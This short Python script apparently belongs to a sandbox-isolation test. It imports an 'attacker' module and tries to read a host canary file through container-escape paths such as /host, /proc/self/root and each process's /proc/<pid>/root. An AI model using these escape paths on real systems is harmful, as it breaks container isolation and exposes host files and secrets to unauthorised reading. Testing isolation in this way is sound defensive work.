"""Read a file of the host by its path there, directly and through every process's root."""

import os

from attacker import PLAN, hunt

canary = PLAN["host_file"]
roots = ["", "/host", "/mnt", "/proc/self/root", "/proc/thread-self/root", "/proc/self/cwd/../../../.."]
roots += [
    f"/proc/{name}/{kind}" for name in os.listdir("/proc") if name.isdigit() for kind in ("root", "cwd/../..")
]
for root in roots:
    hunt(root + canary)
